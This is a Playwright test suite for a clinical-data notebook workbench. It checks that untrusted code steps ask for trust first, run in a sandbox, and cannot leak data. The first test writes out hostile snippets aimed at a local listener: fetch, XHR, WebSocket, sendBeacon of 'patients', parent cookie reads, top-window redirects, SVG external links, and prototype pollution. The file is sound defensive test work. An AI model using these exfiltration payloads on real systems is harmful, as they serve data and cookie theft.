import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { strFromU8, unzipSync } from 'fflate';
import { manifestDifferences } from '../../lib/report/manifest-differences';
import { NotebookPage } from './pages/notebook-page';

// Code steps (issue #27): a notebook file with code asks before any of it runs; hostile code
// reaches nothing (a listener in this test sees no request), fails with the sandbox's own
// message, and leaves the workbench working; the gallery's code-step example gives the page the
// CLI's outputs (tables included).

const NOTEBOOK = 'code-cell';
const GALLERY = JSON.parse(readFileSync('notebooks/code-cell.json', 'utf8')) as { id: string; cells: Array<Record<string, unknown>> };
/** The gallery example's cells (its code steps are heavy: they wait for Run). */
const EXAMPLE_CELLS = ['data', 'cohort', 'windows', 'early', 'recovery-table', 'recovery-figure'];
const EXAMPLE_TABLE = 'recovery_by_early_improvement';

/** The ids of the cells the page shows, in page order. */
async function cellOrder(page: Page): Promise<string[]> {
  return page.locator('section[data-testid^="cell-"]').evaluateAll((els) => els.map((e) => e.getAttribute('data-testid')!.slice('cell-'.length)));
}

/** A saved-notebook file (the format "Save notebook" writes) holding `cells` after the gallery example's own. */
function notebookFile(cells: Array<Record<string, unknown>>, edit: (cells: Array<Record<string, unknown>>) => Array<Record<string, unknown>> = (c) => c) {
  const doc = { format: 'palsy-workbench-notebook', version: 1, profile: 'quick', seed: 42, data: null, notebook: { ...GALLERY, cells: edit([...GALLERY.cells, ...cells]) } };
  return { name: 'hostile-code.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(doc)) };
}

const code = (id: string, source: string, params: Record<string, unknown> = {}) => ({ id, kind: 'code', title: `Hostile: ${id}`, inputs: {}, params: { code: source, name: id.replace(/-/g, '_'), ...params } });

test('hostile code steps: asked about first, each stopped with a clear message, no request leaves, the workbench keeps working', async ({ page, context }) => {
  test.setTimeout(300_000);

  // A listener the hostile code aims at: it must see nothing.
  const seen: string[] = [];
  const server = createServer((req: IncomingMessage, res) => {
    seen.push(`${req.method} ${req.url}`);
    res.writeHead(204).end();
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const { port } = server.address() as AddressInfo;
  const L = `http://127.0.0.1:${port}`;
  // Requests the browser made to it (even one a CSP would have blocked before it left).
  const attempted: string[] = [];
  context.on('request', (r) => {
    if (r.url().includes(`:${port}`)) attempted.push(r.url());
  });

  try {
    // Each cell tries one way out; `error` is what its step must show (the sandbox's message, tests/unit/sandbox/run-code.test.ts).
    const hostile: Array<{ cell: ReturnType<typeof code>; error: string }> = [
      { cell: code('hostile-fetch', `return fetch('${L}/fetch');`), error: "ReferenceError (line 1:8): 'fetch' is not defined" },
      { cell: code('hostile-xhr', `const x = new XMLHttpRequest();\nx.open('GET', '${L}/xhr');\nx.send();`), error: "'XMLHttpRequest' is not defined" },
      { cell: code('hostile-websocket', `return new WebSocket('ws://127.0.0.1:${port}/ws');`), error: "'WebSocket' is not defined" },
      { cell: code('hostile-import-scripts', `importScripts('${L}/script.js');`), error: "'importScripts' is not defined" },
      { cell: code('hostile-import', `return import('${L}/module.js');`), error: `could not load module '${L}/module.js'` },
      { cell: code('hostile-beacon', `return navigator.sendBeacon('${L}/beacon', 'patients');`), error: "'navigator' is not defined" },
      { cell: code('hostile-indexeddb', `return indexedDB.open('palsy-workbench');`), error: "'indexedDB' is not defined" },
      { cell: code('hostile-parent', `return parent.document.cookie;`), error: "'parent' is not defined" },
      { cell: code('hostile-top', `top.location = '${L}/top';`), error: "'top' is not defined" },
      { cell: code('hostile-loop', `while (true) {}`, { timeLimitSeconds: 1 }), error: 'Stopped after 1 s: the code reached its time limit' },
    ];
    // Figures that would fetch or link if they were shown as written: they are drawn without those parts.
    const svgString = code(
      'hostile-svg',
      `return '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100">' +
  '<image href="${L}/image.png" width="10" height="10"/><image xlink:href="${L}/image2.png"/>' +
  '<a href="${L}/link"><text x="10" y="20">click</text></a><img src="${L}/img.png"/>' +
  '<rect width="10" height="10" fill="url(${L}/fill)"/><circle r="5" cx="50" cy="50"/></svg>';`,
    );
    const plotDom = code(
      'hostile-plot-svg',
      `const chart = Plot.plot({ width: 300, height: 150, marks: [Plot.dot([{ x: 1, y: 1 }], { x: 'x', y: 'y' })] });
const ns = 'http://www.w3.org/2000/svg';
const image = document.createElementNS(ns, 'image');
image.setAttribute('href', '${L}/plot-image.png');
chart.appendChild(image);
const a = document.createElementNS(ns, 'a');
a.setAttribute('href', '${L}/plot-link');
a.appendChild(document.createElementNS(ns, 'text')).textContent = 'open';
chart.appendChild(a);
const img = document.createElement('img');
img.setAttribute('src', '${L}/plot-img.png');
chart.appendChild(img);
return chart;`,
    );
    // Prototype pollution succeeds inside the sandbox's own engine (it is plain JavaScript), and
    // only there: the page, its workers and the next code step's fresh engine never see it.
    const pollute = code('hostile-pollute', `Object.prototype.polluted = 'yes';\nArray.prototype.polluted = 'yes';\nreturn [({}).polluted, [].polluted];`);
    const clean = code('after-pollute', `return [typeof ({}).polluted, typeof [].polluted];`);
    const file = notebookFile([...hostile.map((h) => h.cell), svgString, plotDom, pollute, clean]);
    const ids = [...hostile.map((h) => h.cell.id), svgString.id, plotDom.id, pollute.id, clean.id];

    const nb = new NotebookPage(page);
    await nb.open(`${NOTEBOOK}?profile=quick`);
    await nb.expectStatus('early', 'fresh');
    const before = await cellOrder(page);
    const dialog = page.getByRole('dialog', { name: 'This notebook has code' });

    // Opening the file shows every code step's code and asks; Cancel leaves the notebook as it was.
    await page.getByTestId('open-notebook').setInputFiles(file);
    await expect(dialog).toBeVisible();
    await expect(dialog.getByTestId('trust-code-hostile-fetch')).toContainText(`fetch('${L}/fetch')`);
    await expect(dialog.getByTestId('trust-code-hostile-loop')).toContainText('while (true) {}');
    for (const id of ids) await expect(dialog.getByTestId(`trust-code-${id}`), id).toBeVisible();
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await expect(dialog).toBeHidden();
    expect(await cellOrder(page)).toEqual(before);
    for (const id of ids) await expect(nb.cell(id)).toHaveCount(0);

    // Asked again (Cancel trusted nothing); Trust and open replaces the notebook.
    await page.getByTestId('open-notebook').setInputFiles(file);
    await expect(dialog).toBeVisible();
    await dialog.getByRole('button', { name: 'Trust and open' }).click();
    await expect(dialog).toBeHidden();
    await expect.poll(() => cellOrder(page)).toEqual([...before, ...ids]);
    await nb.expectStatus('early', 'fresh');

    // The same file again opens without asking; so does a file with the same code and another setting.
    await page.getByTestId('open-notebook').setInputFiles(file);
    await page.waitForTimeout(1000);
    await expect(dialog).toBeHidden();
    const best = notebookFile([...hostile.map((h) => h.cell), svgString, plotDom, pollute, clean], (cells) =>
      cells.map((c) => (c.id === 'windows' ? { ...c, params: { ...(c.params as object), outcome: 'best' } } : c)),
    );
    await page.getByTestId('open-notebook').setInputFiles(best);
    await nb.cell('windows').getByText('Parameters', { exact: true }).click();
    await expect(nb.cell('windows').getByLabel('Outcome')).toHaveValue('best');
    await expect(dialog).toBeHidden();

    // Each way out fails with the sandbox's message, shown as the step's error.
    for (const { cell, error } of hostile) {
      await nb.cell(cell.id).getByTestId(`run-${cell.id}`).click();
      await nb.expectStatus(cell.id, 'error', 60_000);
      await expect(nb.cell(cell.id).getByTestId(`error-${cell.id}`), cell.id).toContainText(error);
    }

    // The figures are drawn with the dangerous parts removed, and the caption names them.
    for (const [cell, removed] of [
      [svgString, ['<a> element', '<image> element', '<img> element', 'fill attribute with url(), escapes or script']],
      [plotDom, ['<a> element', '<image> element', '<img> element']],
    ] as const) {
      await nb.cell(cell.id).getByTestId(`run-${cell.id}`).click();
      await nb.expectStatus(cell.id, 'fresh', 60_000);
      const name = cell.params.name;
      const figure = nb.cell(cell.id).getByTestId(`figure-${name}`);
      await expect(figure.locator('svg')).toBeVisible();
      await expect(figure.locator('svg image, svg a, svg img, svg foreignObject')).toHaveCount(0);
      const caption = nb.cell(cell.id).getByTestId(`caption-${name}`);
      await expect(caption).toContainText('The sanitizer removed: ');
      for (const what of removed) await expect(caption, `${cell.id}: ${what}`).toContainText(what);
    }
    await expect(nb.cell(svgString.id).getByTestId(`figure-${svgString.params.name}`).locator('svg circle')).toHaveCount(1);
    await expect(nb.cell(plotDom.id).getByTestId(`figure-${plotDom.params.name}`).locator('svg circle')).toHaveCount(1);
    // Nothing in the page points at the listener (the code text in the editors is text, not a link or a source).
    await expect(page.locator(`[href*=":${port}"], [src*=":${port}"], [srcset*=":${port}"]`)).toHaveCount(0);

    // Prototype pollution: inside its own engine only.
    await nb.cell(pollute.id).getByTestId(`run-${pollute.id}`).click();
    await nb.expectStatus(pollute.id, 'fresh', 60_000);
    await expect(nb.cell(pollute.id).getByTestId(`table-${pollute.params.name}`)).toContainText('["yes","yes"]');
    expect(await page.evaluate(() => [typeof ({} as Record<string, unknown>).polluted, typeof ([] as unknown as Record<string, unknown>).polluted])).toEqual(['undefined', 'undefined']);
    for (const worker of page.workers()) {
      expect(await worker.evaluate(() => [typeof ({} as Record<string, unknown>).polluted, typeof ([] as unknown as Record<string, unknown>).polluted]), worker.url()).toEqual(['undefined', 'undefined']);
    }
    await nb.cell(clean.id).getByTestId(`run-${clean.id}`).click();
    await nb.expectStatus(clean.id, 'fresh', 60_000);
    await expect(nb.cell(clean.id).getByTestId(`table-${clean.params.name}`)).toContainText('["undefined","undefined"]');

    // The workbench still works: the page answers, an ordinary step recomputes, the example's code runs.
    expect(await page.evaluate(() => 1 + 1)).toBe(2);
    await nb.cell('windows').getByLabel('Outcome').selectOption('last');
    await nb.expectStatus('windows', 'fresh');
    await nb.expectStatus('early', 'fresh');
    await nb.cell('recovery-table').getByTestId('run-recovery-table').click();
    await nb.expectStatus('recovery-table', 'fresh', 60_000);
    await expect(nb.cell('recovery-table').getByTestId(`table-${EXAMPLE_TABLE}`)).toContainText('development');
    await expect(nb.cell('recovery-table').getByTestId('code-logs')).toContainText('patients have a window by day 30');
  } finally {
    await new Promise<void>((done) => server.close(() => done()));
  }
  expect(attempted, 'requests the browser tried to send to the listener').toEqual([]);
  expect(seen, 'requests the listener received').toEqual([]);
});

test('the gallery’s code-step example runs in the page and gives the CLI’s outputs, its code step’s table included (quick profile)', async ({ page }) => {
  test.setTimeout(240_000);
  const nb = new NotebookPage(page);
  await nb.open(`${NOTEBOOK}?profile=quick`);
  await nb.expectStatus('early', 'fresh');
  await nb.runAll();
  for (const id of EXAMPLE_CELLS) await nb.expectStatus(id, 'fresh', 120_000);
  await expect(page.locator('[data-status="error"]')).toHaveCount(0);
  await expect(nb.cell('recovery-figure').getByTestId('figure-recovery_by_early_improvement_figure').locator('svg circle')).toHaveCount(8);

  await page.getByTestId('export-all').click();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-all-confirm').click()]);
  const zip = unzipSync(new Uint8Array(readFileSync(await download.path())));
  const manifest = JSON.parse(strFromU8(zip['manifest.json']!));
  expect(manifest.notebook.id).toBe(NOTEBOOK);

  const out = mkdtempSync(join(tmpdir(), 'cli-code-cell-'));
  const cli = spawnSync(process.execPath, ['--import', 'tsx', 'cli/reproduce.ts', '--notebook', NOTEBOOK, '--profile', 'quick', '--trust-code', '--out', out, '--quiet'], { encoding: 'utf8' });
  expect(cli.status, cli.stderr).toBe(0);
  expect(cli.stderr).not.toMatch(/skipped code/);
  const expected = JSON.parse(readFileSync(join(out, 'manifest.json'), 'utf8'));
  const keys = (m: { cells: Record<string, { key: string; status: string }> }) => Object.fromEntries(EXAMPLE_CELLS.map((id) => [id, [m.cells[id]?.status, m.cells[id]?.key]]));
  expect(keys(manifest)).toEqual(keys(expected));
  for (const key of ['windows', 'derived_features', `code.${EXAMPLE_TABLE}`, `code.${EXAMPLE_TABLE}_figure`, 'parameters']) {
    expect(manifest[key], `${key} in the page's manifest`).toBeDefined();
    expect(manifestDifferences(manifest[key], expected[key], { tolerance: 1e-12, path: key }), key).toEqual([]);
  }
  // The code step's table, byte for byte: counts, proportions and Wilson CIs computed in the sandbox.
  const csv = strFromU8(zip[`tables/${EXAMPLE_TABLE}.csv`]!);
  expect(csv).toBe(readFileSync(join(out, 'tables', `${EXAMPLE_TABLE}.csv`), 'utf8'));
  expect(csv.split('\n')[0]).toBe('set,band_order,band,patients,recovered,proportion,ci_low,ci_high');
  expect(zip[`figures/${EXAMPLE_TABLE}_figure.svg`], 'the figure exported').toBeDefined();
});

test('a code step added and written in the page runs on Run; a runaway one is stopped by Cancel at once, not at its time limit', async ({ page }) => {
  test.setTimeout(120_000);
  const nb = new NotebookPage(page);
  await nb.open('own-feature?profile=quick');
  await nb.expectStatus('early', 'fresh', 60_000);
  await page.getByTestId('add-code-end').click();
  const id = 'code';
  await expect(nb.cell(id)).toBeVisible();
  // Heavy: nothing runs until Run.
  await expect(nb.cell(id)).toHaveAttribute('data-status', /idle|stale/);
  // Its inputs default to the windows step above it; the editor takes typed code.
  await expect(nb.cell(id).getByRole('combobox').first()).toHaveValue('early');
  const editor = nb.cell(id).locator('[data-testid="code-editor"] .view-lines');
  await editor.click();
  await page.keyboard.press('ControlOrMeta+A');
  await page.keyboard.type('console.log(windows.classification.length);\nwhile (true) {}');
  await page.keyboard.press('Escape');
  // A long time limit: only Cancel can end this run soon.
  await nb.cell(id).locator('summary', { hasText: 'Parameters' }).click();
  const limit = nb.cell(id).getByLabel(/time limit/i);
  await limit.fill('120');
  await limit.press('Enter');
  await page.getByTestId(`run-${id}`).click();
  await nb.expectStatus(id, 'running', 30_000);
  await page.waitForTimeout(1_000);
  const cancelledAt = Date.now();
  await page.getByTestId(`cancel-${id}`).click();
  await expect(nb.cell(id)).not.toHaveAttribute('data-status', 'running', { timeout: 5_000 });
  expect(Date.now() - cancelledAt).toBeLessThan(5_000);
  // The same step with code that ends: it runs, and its console line is shown.
  await editor.click();
  await page.keyboard.press('ControlOrMeta+A');
  await page.keyboard.type('console.log(windows.classification.length);\nreturn windows.classification.length;');
  await page.keyboard.press('Escape');
  await page.getByTestId(`run-${id}`).click();
  await nb.expectStatus(id, 'fresh', 30_000);
  await expect(nb.cell(id).getByTestId('code-logs')).toContainText(/\d+/);
});
